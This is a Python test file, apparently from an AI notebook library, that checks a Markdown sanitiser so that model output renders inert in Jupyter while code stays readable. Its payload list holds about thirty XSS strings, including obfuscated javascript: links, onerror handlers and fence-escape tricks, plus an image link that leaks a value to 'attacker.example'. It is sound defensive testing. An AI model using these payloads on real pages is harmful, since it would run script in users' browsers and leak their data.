"""`safe_markdown`: model text renders inert in Jupyter's Markdown renderers, yet
code stays readable."""

from __future__ import annotations

import html
import re

from hypothesis import given, settings
from hypothesis import strategies as st

from agent_nb import Reply, Usage
from agent_nb._core.render import safe_markdown
from tests.html_safety import assert_inert, render_all, render_marked

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click]( JaVaScRiPt:alert(1))",
    "[click](javascript\\:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[r]\n\n[r]: javascript:alert(1)",
    "[r]: vbscript:msgbox(1)\n\n[r]",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](http://attacker.example/leak?q=secret)",
    "<!-- hidden --><iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "`` ` `` <img src=x onerror=alert(1)> `",
    "\\`<img src=x onerror=alert(1)>`",
    "| a | b |\n|---|---|\n| `x | <img src=x onerror=alert(1)>` |",
    "> ```\n<img src=x onerror=alert(1)>\n```",
    "    ```\n<script>alert(1)</script>",
    "```\n<script>ok</script>\n````\n<img src=x onerror=alert(1)>",
    "~~~\n```\n<b>in</b>\n~~~\n<img src=x onerror=alert(1)>",
    "```js`\n<img src=x onerror=alert(1)>\n```",
    "<style>body{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "$<img src=x onerror=alert(1)>$ and $$<script>x</script>$$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "<form action=javascript:alert(1)><button>x</button></form>",
]


def test_payloads_are_inert_in_every_renderer() -> None:
    sources = [safe_markdown(p) for p in PAYLOADS]
    for payload, source in zip(PAYLOADS, sources, strict=True):
        for rendered in render_all(source).values():
            assert_inert(rendered, payload)
    for payload, rendered in zip(PAYLOADS, render_marked(sources), strict=True):
        assert_inert(rendered, payload)


def test_the_reader_still_sees_what_the_model_wrote() -> None:
    out = render_all(safe_markdown("Use <b>bold</b> & <script>x</script> here"))["markdown-it"]
    text = html.unescape(re.sub(r"<[^>]+>", "", out))
    assert "Use <b>bold</b> & <script>x</script> here" in text


def _code_blocks(rendered: str) -> list[str]:
    blocks = re.findall(r"<pre><code[^>]*>(.*?)</code></pre>", rendered, re.S)
    return [html.unescape(b) for b in blocks]


def test_fenced_code_stays_literal_and_keeps_its_language() -> None:
    code = "if a < b and c > d:\n    print('<b>&amp;</b>')  # `tick`\n"
    source = safe_markdown(f"Here:\n```python\n{code}```\nDone <b>.")
    for rendered in [*render_all(source).values(), *render_marked([source])]:
        assert _code_blocks(rendered) == [code]
        assert "language-python" in rendered
        assert_inert(rendered)


def test_fence_edge_cases_keep_code_readable() -> None:
    cases = {
        "~~~\n<a>\n~~~": ["<a>\n"],
        "````md\n```\n<x>\n```\n````": ["```\n<x>\n```\n"],
        "- item\n\n  ```\n  <div>\n  ```": ["<div>\n"],
        "```\nunclosed <tag> while streaming": ["unclosed <tag> while streaming\n"],
        "```\n```": [""],
    }
    for text, blocks in cases.items():
        rendered = render_all(safe_markdown(text))["markdown-it"]
        assert _code_blocks(rendered) == blocks, text


def test_inline_code_is_readable() -> None:
    rendered = render_all(safe_markdown("Use `List<int>` or `$HOME` or ``a ` b``."))
    for out in rendered.values():
        assert "<code>List&lt;int&gt;</code>" in out
        assert "<code>$HOME</code>" in out
        assert "<code>a ` b</code>" in out


def test_images_and_script_links_show_as_the_text_the_model_wrote() -> None:
    text = "![pic](http://x.example/p.png) [go](javascript:alert(1)) [ok](https://a.example)"
    out = render_all(safe_markdown(text))
    for rendered in [*out.values(), *render_marked([safe_markdown(text)])]:
        assert "<img" not in rendered
        assert 'href="javascript:' not in rendered
        assert 'href="https://a.example"' in rendered  # ordinary links still work
        visible = html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()
        assert visible == "![pic](http://x.example/p.png) [go](javascript:alert(1)) ok"


COPIED = [
    "javascript: is a URL scheme, and data: too",
    "![x] is how an image starts: ![x](y.png)",
    "[r]\n\n[r]: vbscript:msgbox(1)",
    "[click]( JaVaScRiPt:alert(1))",
]


def test_escaping_adds_no_invisible_characters() -> None:
    # What a reader sees and copies is what the model wrote: only entities and
    # backslash escapes are added, which render as the characters themselves.
    for text in COPIED:
        source = safe_markdown(text)
        assert not re.search("[\u200b-\u200f\u2060\ufeff]", source), source
        for rendered in render_all(source).values():
            visible = html.unescape(re.sub(r"<[^>]+>", "", rendered))
            assert not re.search("[\u200b-\u200f\u2060\ufeff]", visible)
            assert " ".join(visible.split()) == " ".join(text.split()), (text, rendered)


def test_reply_repr_markdown_uses_it() -> None:
    reply = Reply(
        text="<script>alert(1)</script>", events=(), usage=Usage(), finish_reason="cancelled",
        session_id="s", invocation_id="i",
    )  # fmt: skip
    markdown = reply._repr_markdown_()
    assert "<script" not in markdown and "interrupted" in markdown


TOKENS = [*"<>&\"'/=:!()[]\\`~$*_-| \n\tabjsvrpti0", "javascript", "script", "img",
          "onerror", "```", "~~~", "<svg", "data", "&#", "    ", "](", "<!--", "<b>", "</code>",
          "<img src=x onerror=y>", "[a](javascript:x)", "`", "``", "\n\n", "> ", "- "]  # fmt: skip
MARKUP = st.lists(st.sampled_from(TOKENS), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(MARKUP)
def test_any_text_renders_inert(text: str) -> None:
    for rendered in render_all(safe_markdown(text)).values():
        assert_inert(rendered, text)
